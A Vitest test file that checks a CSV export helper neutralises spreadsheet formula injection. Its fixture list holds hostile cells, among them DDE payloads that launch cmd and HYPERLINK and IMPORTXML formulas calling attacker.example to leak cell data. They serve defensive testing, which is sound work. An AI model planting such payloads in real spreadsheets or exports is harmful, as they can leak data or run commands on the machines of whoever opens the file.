import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { neutraliseCell, neutraliseCsv, restoreCell, restoreRow } from './csvSafety'

// The twelve cells of the hostile-data campaign: each starts a formula in Excel, LibreOffice or Google Sheets.
const HOSTILE_CELLS = [
  '=1+1',
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  '+SUM(A1:A9)',
  "-2+3+cmd|' /C calc'!A0",
  '-1+1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '@IMPORTXML("http://attacker.example","//a")',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
]

describe('CSV formula injection (EXPORT-08)', () => {
  it('prefixes each of the 12 hostile cells with a quote and leaves plain text and numbers alone', () => {
    for (const c of HOSTILE_CELLS) expect(neutraliseCell(c)).toBe(`'${c}`)
    for (const c of ['-5', '+3.5', '-0.25', '1e3', "O'Brien's", 'a=b', 'mail@example.com', '', '—dash', "'=already"])
      expect(neutraliseCell(c)).toBe(c)
  })

  it('a neutralised file keeps its BOM, CRLF rows, quoting and every other cell, and no cell starts a formula', async () => {
    const rows = [
      ['Name', 'Comment', 'Amount'],
      ...HOSTILE_CELLS.map((c, i) => [`user${i}`, c, String(-i)]),
      ['a,b', 'line1\nline2', '"q"'],
    ]
    const file = '\ufeff' + Papa.unparse(rows, { newline: '\r\n' }) + '\r\n'
    const out = await neutraliseCsv(file)
    expect(out.startsWith('\ufeff')).toBe(true)
    expect(out.endsWith('\r\n')).toBe(true)
    const back = Papa.parse<string[]>(out.slice(1).trimEnd()).data
    expect(back).toHaveLength(rows.length)
    expect(back.slice(1, 13).map((r) => r[1])).toEqual(HOSTILE_CELLS.map((c) => `'${c}`))
    expect(back.slice(1, 13).map((r) => r[2])).toEqual(HOSTILE_CELLS.map((_, i) => String(-i)))
    expect(back.at(-1)).toEqual(['a,b', 'line1\nline2', '"q"'])
    for (const cell of back.flat()) expect(cell).not.toMatch(/^ *[=+@\t\r]|^ *-(?!\d+$)/)
    // neutralising twice changes nothing
    expect(await neutraliseCsv(out)).toBe(out)
  })

  it('importing gives back the exported value: the added quote is dropped, other text stays as written', () => {
    for (const c of HOSTILE_CELLS) expect(restoreCell(neutraliseCell(c))).toBe(c)
    // the platform's import hands the added `'` back as `"`
    for (const c of HOSTILE_CELLS) expect(restoreCell(`"${c}`)).toBe(c)
    expect(restoreCell("'quoted'")).toBe("'quoted'")
    expect(restoreCell('"quoted"')).toBe('"quoted"')
    expect(restoreCell("'-5")).toBe("'-5")
    expect(restoreRow({ name: "'=1+1", comment: "O'Brien's", users: ["'=x"], n: 3 })).toEqual({
      name: '=1+1',
      comment: "O'Brien's",
      users: ["'=x"],
      n: 3,
    })
  })
})
